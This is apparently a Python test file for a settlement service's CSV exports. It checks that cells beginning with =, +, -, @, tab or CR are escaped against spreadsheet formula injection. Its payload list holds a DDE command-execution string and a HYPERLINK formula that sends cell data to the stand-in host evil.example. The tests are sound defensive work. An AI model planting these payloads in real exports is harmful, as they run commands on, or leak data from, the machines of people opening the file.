"""Every CSV writer guards cells a spreadsheet would run as formulas (issue 15: the reconciliation
report wrote ``=cmd|' /C calc'!A0``, ``+HYPERLINK(...)`` and ``@SUM(1+1)`` raw). The helper
itself, by property; and the engine's writers with the issue's payloads (the service's report
and settlement export are tested over HTTP in tests/callbacks/test_csv_exports.py)."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from hypothesis import given
from hypothesis import strategies as st

from settlement.core.csv_safe import FORMULA_TRIGGERS, safe_cell, safe_csv_row
from settlement.domains.reconciliation.engine import (
    LedgerEntry,
    StatementLine,
    reconcile,
    write_ledger_csv,
    write_normalized_csv,
)

# The payloads, and the other ways a cell becomes a formula.
PAYLOADS = ("=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
T0 = datetime(2026, 1, 15, 10, 0)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_each_formula_trigger_is_guarded_and_other_values_pass_unchanged() -> None:
    """Text starting with = + - @ tab or CR gets a leading apostrophe; numbers (negative amounts
    included), None and plain text are written as they are."""
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_csv_row([None, -5, 0, "ORDER-1", "a=b", "", "'=x"]) == ["", -5, 0, "ORDER-1", "a=b", "", "'=x"]


@given(st.text(max_size=40))
def test_no_guarded_cell_starts_with_a_trigger_and_the_text_is_kept(text: str) -> None:
    out = safe_cell(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert out in (text, "'" + text)


def test_the_engine_writers_guard_the_payloads() -> None:
    """The exceptions CSV (statement lines nobody booked, with formula references and provider
    ids), the normalized statement and the ledger export: no cell starts with a trigger."""
    lines = [StatementLine("s", n, p, p, "payment", 100, "CNY", "succeeded", T0, "") for n, p in enumerate(PAYLOADS, 1)]
    entries = [LedgerEntry(f"pay:{n}", p, p, "payment", 7, "CNY", "succeeded", T0, "confirmed", None)
               for n, p in enumerate(PAYLOADS, 1)]
    report = reconcile(lines, [])
    for write, items in ((report.write_exceptions_csv, None), (write_normalized_csv, lines),
                         (write_ledger_csv, entries)):
        stream = io.StringIO()
        if items is None:
            write(stream)
        else:
            write(items, stream)
        cells = _cells(stream.getvalue())
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], cells
        for payload in PAYLOADS:
            assert "'" + payload in cells
